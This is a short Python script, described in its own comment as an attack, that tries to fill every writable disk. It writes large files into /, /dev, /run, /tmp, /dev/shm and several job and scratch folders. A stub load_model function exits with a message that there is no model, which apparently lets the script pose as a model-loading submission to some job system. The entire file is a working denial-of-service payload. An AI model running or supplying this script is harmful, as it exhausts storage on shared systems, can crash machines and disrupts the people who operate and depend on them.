# Tries: to fill every disk that it can write to.
import os


def main():
    block = b"x" * (1 << 20)
    for folder in ("/scratch", "/tmp", "/dev/shm", "/dev", "/run", "/job", "/usr/tmp", "/var/tmp", "/", "/out"):
        written = 0
        try:
            with open(os.path.join(folder, "fill"), "wb", buffering=0) as file:
                for _ in range(100_000):
                    written += file.write(block)
        except OSError as error:
            print(folder, written >> 20, "MiB, then", error, flush=True)
        number = 0
        try:
            while number < 10_000:
                with open(os.path.join(folder, f"fill{number}"), "wb", buffering=0) as file:
                    written += file.write(block)
                number += 1
        except OSError as error:
            print(folder, written >> 20, "MiB in all, then", error, flush=True)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
